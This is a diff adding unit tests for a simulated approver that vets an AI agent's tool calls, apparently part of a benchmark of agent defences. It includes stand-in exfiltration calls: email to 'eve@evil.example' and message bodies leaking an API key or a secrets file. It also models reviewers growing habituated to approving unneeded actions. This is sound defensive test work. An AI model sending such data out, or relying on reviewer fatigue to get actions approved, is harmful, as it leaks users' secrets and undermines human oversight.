@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { type ApproverBehaviour, HUMAN_APPROVER, SimulatedApprover } from "./approver.ts";
+import { ApprovalHistory, type ApproverBehaviour, HUMAN_APPROVER, SimulatedApprover } from "./approver.ts";
 import { parseDefenseConfiguration } from "./config.ts";
 import type { ToolDescriptor } from "./types.ts";
 import { wilson } from "../benchmarks/testing/wilson.ts";
@@ -28,6 +28,38 @@ describe("SimulatedApprover", () => {
     expect(approver.decide(request({ memo: "inv-2041 ", amount: 1250, iban: "DE89370400440532013000" }))).toBe(true);
     expect(approver.decide(request({ iban: "DE89370400440532013000", amount: 4900, memo: "INV-2041" }))).toBe(false);
     expect(approver.decide(request({ iban: "GB29NWBK60161331926819", amount: 1250, memo: "INV-2041" }))).toBe(false);
+  });
+
+  it("judges what a call does, not its wording: same tool, destination, amount and object; free text with no new fact", () => {
+    const mail: ToolDescriptor = { name: "send_email", description: "", sensitivity: "external_sink", source: "trusted", destinationArgs: ["to"] };
+    const send = (args: Record<string, unknown>) => ({ hook: "onToolCall" as const, subject: { id: "1", tool: mail, args }, agent: "a", code: "x", reason: "y" });
+    const approver = new SimulatedApprover([{ tool: "send_email", args: { to: ["priya@northwind.example"], subject: "Draft for review", body: "Hi Priya, here is the draft of drafts/q3-plan.md for your review." } }]);
+    // Worded differently, the same effect: approved.
+    expect(approver.decide(send({ to: ["Priya@northwind.example"], subject: "Review request: the draft", body: "Priya — please review the attached draft (drafts/q3-plan.md). Thanks!" }))).toBe(true);
+    // Another recipient, or a body that carries what the user's did not (a key, a file): refused.
+    expect(approver.decide(send({ to: ["eve@evil.example"], subject: "Draft for review", body: "Hi Priya, here is the draft of drafts/q3-plan.md for your review." }))).toBe(false);
+    expect(approver.decide(send({ to: ["priya@northwind.example"], subject: "Draft", body: "Here is the draft. Also: PROD_API_KEY=sk-live-51HxNorthwind9Q2" }))).toBe(false);
+    expect(approver.decide(send({ to: ["priya@northwind.example"], subject: "Draft", body: "Here is secrets/api-keys.txt for your review." }))).toBe(false);
+  });
+
+  it("habituation follows the user across the episodes of one session, and starts afresh for another user", () => {
+    const human = HUMAN_APPROVER as Extract<ApproverBehaviour, { kind: "human" }>;
+    const share = (before: (history: ApprovalHistory) => void, user: string) => {
+      let k = 0;
+      for (let session = 0; session < 4000; session++) {
+        const history = new ApprovalHistory();
+        before(history);
+        if (new SimulatedApprover(plan, human, `1:s-${session}:ep-2`, history, user).decide(unneeded)) k++;
+      }
+      return k / 4000;
+    };
+    // Three requests answered in the session's earlier episodes by emma: her fourth is judged as a fourth.
+    const earlier = (history: ApprovalHistory) => {
+      for (let i = 0; i < 3; i++) new SimulatedApprover(plan, human, `1:ep-1`, history, "emma").decide(needed);
+    };
+    const fourth = human.approve_unneeded_max - (human.approve_unneeded_max - human.approve_unneeded) * (1 - human.habituation) ** 3;
+    expect(share(earlier, "emma")).toBeCloseTo(fourth, 1);
+    expect(share(earlier, "dana")).toBeCloseTo(human.approve_unneeded, 1);
   });
 
   it("the documented human approves unneeded actions and refuses needed ones at the configured rates (Wilson 95%)", () => {
